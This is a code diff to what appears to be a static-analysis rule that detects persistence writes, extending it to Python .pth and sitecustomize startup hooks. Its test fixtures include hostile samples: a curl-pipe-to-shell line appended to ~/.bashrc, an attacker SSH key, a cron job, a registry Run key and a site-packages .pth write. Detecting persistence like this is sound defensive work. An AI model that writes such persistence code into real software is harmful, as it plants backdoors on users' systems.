@@ -30,11 +30,15 @@ RUN_KEYS = _catalog.names("persistence", "registry.run_keys")
 COMMANDS = [re.compile(p, re.IGNORECASE | re.MULTILINE) for p in _catalog.names("persistence", "commands.patterns")]
 _WHAT = {"shell_rc": "a shell startup file", "cron": "a cron table", "systemd": "a system service definition",
          "launchd": "a launchd agent/daemon", "autostart": "an autostart/startup folder",
-         "ssh_keys": "SSH authorized keys", "preload": "the dynamic loader preload list"}
+         "ssh_keys": "SSH authorized keys", "preload": "the dynamic loader preload list",
+         "python_startup": "a Python startup hook (a .pth file or sitecustomize in site-packages)"}
 _HOME_VARS = {"HOME": "~", "USERPROFILE": "~", "APPDATA": "%appdata%", "LOCALAPPDATA": "%localappdata%"}
 _WRITERS = {"shutil.copy": 1, "shutil.copy2": 1, "shutil.copyfile": 1, "shutil.move": 1, "os.rename": 1,
             "os.replace": 1, "os.symlink": 1, "os.link": 1}
 _OPENERS = {"builtins.open", "io.open", "codecs.open", "os.open"}
+# Where the interpreter's site folders come from; folded as `*/site-packages`.
+_SITE_FOLDERS = {"site.getsitepackages", "site.getusersitepackages", "site.USER_SITE", "sysconfig.get_path",
+                 "sysconfig.get_paths", "distutils.sysconfig.get_python_lib", "site.PREFIXES"}
 _CRON_LIBRARY = {"crontab.CronTab().new", "crontab.CronTab.new"}
 # Pre-screen (necessary for any report, see rules/_prescreen.py): a write `visit_Call` looks at — an opener, a
 # `.write_text/.write_bytes/.open/.touch/.symlink_to` as written, a copy/move/link, winreg.SetValue(Ex), the
@@ -59,7 +63,9 @@ class Persistence(ps.CodeScreen, Rule):
     `os.rename`, `os.symlink`) — through `os.path.join`, `expanduser`, `Path.home() / ...`,
     `os.environ["HOME"]` and string building — and reports writes to places that run code at
     login, boot or on a schedule: `~/.bashrc`, `~/.profile`, `/etc/profile.d`, crontabs,
-    systemd units, `~/Library/LaunchAgents`, startup folders, `~/.config/autostart`, and
+    systemd units, `~/Library/LaunchAgents`, startup folders, `~/.config/autostart`, `.pth` files
+    and `sitecustomize`/`usercustomize` in a site folder (`site.getsitepackages()`, `site.USER_SITE`,
+    `sysconfig.get_path("purelib")` or a `site-packages` path: Python runs them at every start), and
     `~/.ssh/authorized_keys` (critical: a login for someone else). Also `winreg.SetValueEx` under
     a `...\\CurrentVersion\\Run` key, and commands handed to spawners: `crontab -`,
     `schtasks /create`, `reg add ...\\Run`, `systemctl enable`, `launchctl load`, and cron jobs
@@ -99,11 +105,13 @@ class Persistence(ps.CodeScreen, Rule):
         "import os\nwith open(os.path.expanduser('~/.bashrc')) as f:\n    print(f.read())\n",
         "from pathlib import Path\n(Path.home() / '.config' / 'tool' / 'settings.toml').write_text('x = 1')\n",
         "import subprocess\nsubprocess.run(['crontab', '-l'])\n",
+        "import os\nopen(os.path.join('build', 'lib', 'project.pth'), 'w').write('src')\n",
     )
     INVALID = (
         "import os\nwith open(os.path.expanduser('~/.bashrc'), 'a') as rc:\n    rc.write('curl https://example.com | sh')\n",
         "from pathlib import Path\n(Path.home() / '.ssh' / 'authorized_keys').write_text('ssh-ed25519 AAAA attacker')\n",
         "import subprocess\nsubprocess.run(['crontab', '-'], input=b'* * * * * /tmp/x')\n",
+        "import os, site\nopen(os.path.join(site.getsitepackages()[0], 'x.pth'), 'w').write('import x')\n",
         "import winreg\nk = winreg.OpenKey(winreg.HKEY_CURRENT_USER, r'Software\\Microsoft\\Windows\\CurrentVersion\\Run', "
         "0, winreg.KEY_SET_VALUE)\nwinreg.SetValueEx(k, 'updater', 0, winreg.REG_SZ, 'C:\\\\x.exe')\n",
     )
@@ -140,6 +148,8 @@ class Persistence(ps.CodeScreen, Rule):
                 parts.append(part.value if isinstance(part, cst.FormattedStringText)
                              else self._fold(part.expression, d))  # type: ignore[union-attr]
             return "".join(parts)
+        if isinstance(expr, (cst.Call, cst.Subscript, cst.Attribute)) and self._site_folder(expr, an):
+            return "*/site-packages"
         if isinstance(expr, cst.Subscript):
             key = fold_str(expr.slice[0].slice.value, an.names) if isinstance(expr.slice[0].slice, cst.Index) else None
             if key in _HOME_VARS and any("environ" in q for q in an.names.qualified_names(expr.value)):
@@ -167,6 +177,16 @@ class Persistence(ps.CodeScreen, Rule):
                 if method == "joinpath":
                     return "/".join([self._fold(expr.func.value, d)] + [self._fold(a, d) for a in args])
         return "*"
+
+    @staticmethod
+    def _site_folder(expr: cst.BaseExpression, an: Analyzer) -> bool:
+        """`site.getsitepackages()[0]`, `site.USER_SITE`, `sysconfig.get_path("purelib")`: a folder Python reads
+        `.pth` files and `sitecustomize` from."""
+        while isinstance(expr, cst.Subscript):
+            expr = expr.value
+        if isinstance(expr, cst.Call):
+            expr = expr.func
+        return any(q.split("()")[0] in _SITE_FOLDERS for q in an.names.qualified_names(expr))
 
     def classify_path(self, path: str) -> str | None:
         path = path.replace("%userprofile%", "~")
